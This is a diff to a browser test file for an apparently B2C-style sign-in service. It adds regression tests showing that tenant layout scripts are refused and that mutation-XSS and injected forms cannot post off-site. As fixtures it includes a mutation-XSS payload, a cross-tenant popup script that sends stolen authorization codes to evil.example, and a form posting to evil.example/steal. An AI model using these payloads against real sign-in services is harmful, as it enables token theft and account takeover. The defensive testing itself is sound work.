@@ -3,6 +3,10 @@ import { createServer, type Server } from 'node:http';
 import { join } from 'node:path';
 import type { Browser } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { LAYOUT_SCRIPT_REFUSED } from '../../src/services/policies.js';
+import { createApp, requireApp } from '../../src/services/apps.js';
+import { createTenant } from '../../src/services/tenants.js';
+import { ADMIN_API_URI } from '../../src/services/admin-api.js';
 import { finishFlow, newPage as newBrowserPage, startFlow as startBrowserFlow, type Flow } from '../helpers/browser-flow.js';
 import { launchBrowser, startRelyingParty, type RelyingParty } from '../helpers/browser.js';
 import { freePort } from '../helpers/ports.js';
@@ -35,6 +39,29 @@ const TEMPLATE = `<!DOCTYPE html>
 </body>
 </html>`;
 
+/** The reported mutation-XSS template: after re-serialization a browser built a real form that took Latchkey's inputs. */
+const MXSS_TEMPLATE = '<math><mtext><table><mglyph><style><img><form action="https://evil.example/steal" method="post"></style></mglyph></table></mtext></math><div id="api">';
+
+/**
+ * A tenant administrator's layout that steals another tenant's users' tokens: all tenants share one
+ * origin, so a same-origin popup to the victim tenant's /authorize (prompt=none, form_post, a PKCE
+ * challenge the attacker chose) could be read by this script, and the code redeemed.
+ */
+const popupTemplate = (victimAuthorize: string) => `<!DOCTYPE html>
+<html><head><title>Contoso</title>
+<script>
+  document.documentElement.dataset.headScript = 'ran';
+  var w = window.open(${JSON.stringify(victimAuthorize)}, 'steal', 'width=1,height=1');
+  setInterval(function () {
+    try {
+      var f = w.document.getElementById('form-post');
+      if (f) { new Image().src = 'https://evil.example/loot?code=' + encodeURIComponent(f.elements.code.value); w.close(); }
+    } catch (e) {}
+  }, 50);
+</script>
+</head><body><div id="api"></div></body></html>`;
+let POPUP_TEMPLATE = '';
+
 const CSS = `body { background-color: rgb(10, 20, 30); font-family: sans-serif; color: #222; margin: 0; }
 .brand { padding: 16px 24px; }
 .brand img { width: 40px; height: 40px; }
@@ -63,6 +90,10 @@ async function startTemplateServer(): Promise<TemplateServer> {
     requests.push(path);
     if (/^\/(en|de|fr|es|nl)\/unified\.html$/.test(path)) {
       res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(TEMPLATE);
+    } else if (path === '/mxss.html') {
+      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(MXSS_TEMPLATE);
+    } else if (path === '/popup.html') {
+      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(POPUP_TEMPLATE);
     } else if (path === '/no-api.html') {
       res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><html><head><title>x</title></head><body><div id="main"></div></body></html>');
     } else if (path === '/styles/contoso.css') {
@@ -113,9 +144,15 @@ beforeAll(async () => {
       },
     },
   });
-  writePolicy(s, 'B2C_1_branded_js', { ui: { pageLayouts: { unifiedssp: { template: `${templates.url}/en/unified.html`, javaScript: true } } } });
   writePolicy(s, 'B2C_1_branded_down', { ui: { pageLayouts: { unifiedssp: `http://127.0.0.1:${deadPort}/unified.html` } } });
-  for (const id of ['B2C_1_branded', 'B2C_1_branded_js', 'B2C_1_branded_down']) await waitForPolicy(s, id);
+  writePolicy(s, 'B2C_1_branded_mxss', { ui: { pageLayouts: { unifiedssp: `${templates.url}/mxss.html` } } });
+  // Another tenant, whose users the popup template goes after.
+  const victim = await createTenant(s.provision, 'fabrikam');
+  const victimApp = (await createApp(s.provision, victim, { name: 'victim-spa', type: 'spa', redirectUris: ['https://app.fabrikam.example/cb'] })).app.clientId;
+  POPUP_TEMPLATE = popupTemplate(
+    `${s.baseUrl}/fabrikam/B2C_1_signupsignin/oauth2/v2.0/authorize?${new URLSearchParams({ client_id: victimApp, redirect_uri: 'https://app.fabrikam.example/cb', response_type: 'code', scope: 'openid offline_access', prompt: 'none', response_mode: 'form_post', code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM', code_challenge_method: 'S256' })}`,
+  );
+  for (const id of ['B2C_1_branded', 'B2C_1_branded_down', 'B2C_1_branded_mxss']) await waitForPolicy(s, id);
 });
 
 afterAll(async () => {
@@ -186,12 +223,101 @@ describe('custom page layouts', () => {
     await context.close();
   });
 
-  it("keeps the template's head scripts when the policy enables JavaScript, allowed by hash, and still drops body scripts", async () => {
+  it("refuses template JavaScript on the shared host: a layout script that would read another tenant's sign-in never loads", async () => {
+    // The last good version: the same template, without JavaScript.
+    writePolicy(s, 'B2C_1_branded_js', { ui: { title: 'Last good', pageLayouts: { unifiedssp: `${templates.url}/popup.html` } } });
+    await waitForPolicy(s, 'B2C_1_branded_js');
+    // The attack: the layout's script enabled. The loader keeps the last good version and logs why.
+    writePolicy(s, 'B2C_1_branded_js', { ui: { title: 'Attack', pageLayouts: { unifiedssp: { template: `${templates.url}/popup.html`, javaScript: true } } } });
+    const refused = async () => s.logs.find((l) => l.msg === `invalid policy, keeping the last good version: ${String(l.file)}: $.ui.pageLayouts.unifiedssp.javaScript: ${LAYOUT_SCRIPT_REFUSED}`);
+    for (let i = 0; i < 200 && !(await refused()); i++) await new Promise((r) => setTimeout(r, 25));
+    expect(await refused()).toBeDefined();
+    expect(s.deps.policies.get('demo', 'B2C_1_branded_js')?.ui.title).toBe('Last good');
+
+    // In the browser: the page is served with the last good version; the script is gone and no popup opens.
     const flow = await startFlow('B2C_1_branded_js');
     const { context, page } = await newBrowserPage(browser);
+    const popups: string[] = [];
+    context.on('page', (p) => popups.push(p.url()));
     const res = await page.goto(flow.url.toString());
-    expect(res!.headers()['content-security-policy']).toMatch(/script-src 'self' 'sha256-[A-Za-z0-9+/=]+'/);
-    expect(await page.evaluate('[document.documentElement.dataset.headScript, document.body.dataset.bodyScript]')).toEqual(['ran', undefined]);
+    expect(res!.headers()['content-security-policy']).toMatch(/script-src 'self';/);
+    expect(await page.evaluate('document.documentElement.dataset.headScript')).toBeUndefined();
+    expect(await page.locator('#api #localAccountForm').count()).toBe(1);
+    expect(popups).toEqual([]);
+    await context.close();
+
+    // Through the admin API (a tenant administrator's token): 400, with the reason at its JSON path.
+    const tenant = (await s.deps.store.findTenant('demo'))!;
+    const { app, clientSecret } = await createApp(s.provision, tenant, { name: 'tenant-admin', type: 'daemon' });
+    const adminApi = await requireApp(s.provision, tenant, ADMIN_API_URI);
+    await s.deps.store.addGrant({ clientId: app.clientId, apiClientId: adminApi.clientId, kind: 'role', name: 'Admin.ReadWrite.All' });
+    const token = (await (await fetch(`${s.baseUrl}/demo/B2C_1_signin/oauth2/v2.0/token`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/x-www-form-urlencoded', authorization: `Basic ${Buffer.from(`${app.clientId}:${clientSecret!}`).toString('base64')}` },
+      body: new URLSearchParams({ grant_type: 'client_credentials', scope: `${ADMIN_API_URI}/.default` }),
+    })).json()) as { access_token: string };
+    const policy = { id: 'B2C_1_api_popup', kind: 'signUpOrSignIn', ui: { pageLayouts: { unifiedssp: { template: `${templates.url}/popup.html`, javaScript: true } } } };
+    const put = await fetch(`${s.baseUrl}/admin/v1/tenants/demo/policies/B2C_1_api_popup`, {
+      method: 'PUT',
+      headers: { authorization: `Bearer ${token.access_token}`, 'content-type': 'application/json' },
+      body: JSON.stringify(policy),
+    });
+    expect(put.status).toBe(400);
+    expect(await put.json()).toEqual({ valid: false, problems: [{ path: '$.ui.pageLayouts.unifiedssp.javaScript', message: LAYOUT_SCRIPT_REFUSED }] });
+    expect((await fetch(`${s.baseUrl}/demo/B2C_1_api_popup/v2.0/.well-known/openid-configuration`)).status).toBe(404);
+  });
+
+  it("renders the mutation-XSS template with Latchkey's form intact and forms posting nowhere but Latchkey", async () => {
+    const user = await s.createUser('mxss@example.com', 'mxss-password-1');
+    const flow = await startFlow('B2C_1_branded_mxss');
+    const { context, page } = await newBrowserPage(browser);
+    const leaked: string[] = [];
+    await context.route(/evil\.example/, (route) => {
+      leaked.push(route.request().url());
+      return route.abort();
+    });
+    const res = await page.goto(flow.url.toString());
+    expect(templates.requests).toContain('/mxss.html');
+    expect(await page.locator('#api').getAttribute('data-name')).toBe('Unified');
+    // Every form on the page is Latchkey's and posts to the journey; none goes to evil.example.
+    // (getAttribute: a form's `action` property is its field named "action" when it has one, as B2C's buttons are.)
+    const forms = (await page.evaluate("Array.from(document.forms).map((f) => new URL(f.getAttribute('action'), location.href).href)")) as string[];
+    expect(forms.length).toBeGreaterThan(0);
+    expect(new Set(forms)).toEqual(new Set([page.url()]));
+    expect(await page.locator('[action*="evil.example"], [formaction*="evil.example"]').count()).toBe(0);
+    expect(await page.locator('math, svg').count()).toBe(0);
+    expect(await page.evaluate("document.getElementById('password').form.id")).toBe('localAccountForm');
+    // The page's CSP lets forms post to Latchkey only.
+    const csp = res!.headers()['content-security-policy']!;
+    expect(csp).toMatch(/form-action 'self';/);
+    expect(csp).not.toMatch(/form-action[^;]*\*/);
+    await page.getByLabel('Email Address').fill('mxss@example.com');
+    await page.getByLabel('Password').fill('mxss-password-1');
+    await page.getByRole('button', { name: 'Sign in' }).click();
+    expect((await finishFlow(page, flow)).claims()!.oid).toBe(user.id);
+    expect(leaked).toEqual([]);
+    await context.close();
+  });
+
+  it("stops a form that got into a templated page from posting anywhere but Latchkey (form-action 'self')", async () => {
+    const flow = await startFlow('B2C_1_branded_mxss');
+    const { context, page } = await newBrowserPage(browser);
+    const leaked: string[] = [];
+    await context.route(/evil\.example/, (route) => {
+      leaked.push(route.request().url());
+      return route.abort();
+    });
+    await page.goto(flow.url.toString());
+    const violated = await page.evaluate(`new Promise((resolve) => {
+      document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective));
+      const f = document.createElement('form');
+      f.method = 'post';
+      f.action = 'https://evil.example/steal';
+      document.body.append(f);
+      f.submit();
+    })`);
+    expect(violated).toBe('form-action');
+    expect(leaked).toEqual([]);
     await context.close();
   });
 
